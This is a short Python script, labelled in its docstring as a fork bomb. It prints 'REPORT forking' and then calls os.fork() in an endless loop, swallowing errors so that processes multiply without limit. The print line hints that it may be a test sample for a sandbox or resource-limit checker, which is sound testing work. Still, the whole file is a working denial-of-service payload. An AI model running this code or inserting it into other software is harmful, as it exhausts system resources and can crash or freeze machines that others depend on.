"""A fork bomb: every process forks for ever."""
import os

print("REPORT forking", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
